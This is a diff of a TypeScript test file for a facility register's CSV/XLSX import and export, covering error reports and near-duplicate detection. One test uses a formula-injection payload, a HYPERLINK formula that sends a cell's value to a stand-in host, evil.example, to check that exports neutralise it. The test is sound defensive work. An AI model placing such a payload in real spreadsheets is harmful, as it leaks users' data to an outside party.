@@ -6,7 +6,9 @@ import { haversineM } from '../geo/index.js';
 import { openTemporaryStore, type Actor, type Facility, type Store } from '../store/index.js';
 import { fromWgs84 } from './coordinates.js';
 import { exportRegister, importReportToXlsx } from './export.js';
-import { seedFacilityTypes } from './facility-types.js';
+import { addDefaultFacilityTypes } from './commands.js';
+import { cliViewer } from '../policy/index.js';
+import { manualClock } from '../time/index.js';
 import { importRegister, type ImportOptions } from './import.js';
 
 const CLERK: Actor = { userId: null, name: 'test clerk' };
@@ -48,8 +50,9 @@ const PROVIDERS_CSV = [
 ].join('\r\n');
 
 async function setup(): Promise<{ store: Store; dispose: () => Promise<void> }> {
-  const ctx = await openTemporaryStore({ divisions: true });
-  await seedFacilityTypes(ctx.store);
+  const clock = manualClock('2026-03-16T10:00:00+08:00');
+  const ctx = await openTemporaryStore({ divisions: true, clock });
+  await addDefaultFacilityTypes({ store: ctx.store, clock, cityCode: CITY }, cliViewer('test'), {});
   return ctx;
 }
 
@@ -381,5 +384,77 @@ test('a Chinese export writes type, status and domains in Chinese and still re-i
   assert.match(text, /F1,省建一公司幼儿园,幼儿园,104.0860455,30.6796065,,,,是,暂停,/);
   const { report } = await run(store, { entity: 'facilities', bytes: exported, fileName: 'export.csv' });
   assert.deepEqual([report.accepted, report.unchanged], [true, 1]);
+  await dispose();
+});
+
+test('a name a spreadsheet would run as a formula is exported neutralised (CSV and XLSX) and re-imports unchanged', async () => {
+  const { store, dispose } = await setup();
+  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
+  const csv = `code,name,type,lon,lat\nF1,"${evil.replaceAll('"', '""')}",pharmacy,104.0874466,30.6843382\n`;
+  const imported = await run(store, { entity: 'facilities', bytes: Buffer.from(csv), fileName: 'f.csv' });
+  assert.equal(imported.report.accepted, true);
+  assert.equal((await store.facilities.get('F1'))?.name, evil);
+  const items = (await store.facilities.list()).items;
+  const asCsv = (await exportRegister('facilities', items, 'csv', { headers: 'en' })).toString('utf8');
+  assert.ok(asCsv.includes(`F1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击查看"")"`), asCsv);
+  const asXlsx = await exportRegister('facilities', items, 'xlsx', { headers: 'en' });
+  const wb = new ExcelJS.Workbook();
+  await wb.xlsx.load(asXlsx as unknown as ArrayBuffer);
+  assert.equal(wb.worksheets[0].getRow(2).getCell(2).value, `'${evil}`);
+  for (const [bytes, fileName] of [
+    [Buffer.from(asCsv), 'export.csv'],
+    [asXlsx, 'export.xlsx'],
+  ] as const) {
+    const again = await run(store, { entity: 'facilities', bytes, fileName });
+    assert.deepEqual([again.report.accepted, again.report.unchanged], [true, 1], fileName);
+  }
+  await dispose();
+});
+
+test('a large bad file gives a bounded report: every problem counted by reason, the first 1000 listed, long cells clipped', async () => {
+  const { store, dispose } = await setup();
+  const junk = 'x'.repeat(5000);
+  const lines = ['code,name,type,lon,lat'];
+  // 3000 rows: each has an unknown type (a 5000-character cell) and a longitude that is not a number.
+  for (let i = 1; i <= 3000; i++) lines.push(`F${i},网点${i},${junk},east,30.68`);
+  const bytes = Buffer.from(lines.join('\n'));
+  const { report } = await run(store, { entity: 'facilities', bytes, fileName: 'junk.csv' });
+  assert.equal(report.accepted, false);
+  assert.equal(report.problemCount, 6000);
+  assert.deepEqual(report.problemsByReason, { unknown_type: 3000, not_a_number: 3000 });
+  assert.equal(report.problems.length, 1000);
+  assert.deepEqual(
+    report.problems.slice(0, 2).map((p) => [p.row, p.column, p.reason]),
+    [
+      [2, 'type', 'unknown_type'],
+      [2, 'lon', 'not_a_number'],
+    ],
+  );
+  const typeProblem = report.problems[0];
+  assert.equal(typeProblem.value, `${'x'.repeat(100)}…（共 5000 字符 / 5000 chars）`);
+  assert.ok(typeProblem.message.length <= 400 + 30, `${typeProblem.message.length}`);
+  assert.ok(JSON.stringify(report).length < 400_000, `report of ${JSON.stringify(report).length} characters`);
+  assert.equal(await store.facilities.count(), 0);
+  await dispose();
+});
+
+test('two outlets of the same name and type within 50 m are reported as one entered twice; 51 m apart or another type is fine', async () => {
+  const { store, dispose } = await setup();
+  // Along a meridian a degree is 111 195.08 m: 0.0004496° = 49.993 m, 0.0004587° = 51.005 m (hand-computed).
+  const d50 = '0.0004496';
+  const d51 = '0.0004587';
+  const csv = [
+    '设施编码,设施名称,设施类型,经度,纬度',
+    'F1,瑞华药业三友店,pharmacy,104.0800000,30.6800000',
+    `F2,瑞华药业 三友店,pharmacy,104.0800000,${(30.68 + Number(d50)).toFixed(7)}`,
+    `F3,瑞华药业三友店,supermarket,104.0800000,30.6800000`,
+    `F4,瑞华药业三友店,pharmacy,104.0800000,${(30.68 - Number(d51)).toFixed(7)}`,
+  ].join('\n');
+  const { report } = await run(store, { entity: 'facilities', bytes: Buffer.from(csv), fileName: 'f.csv' });
+  assert.deepEqual(
+    report.problems.map((p) => [p.row, p.column, p.reason]),
+    [[3, '设施名称', 'near_duplicate']],
+  );
+  assert.match(report.problems[0].message, /is 50 m from the outlet of the same name and type in row 2/);
   await dispose();
 });
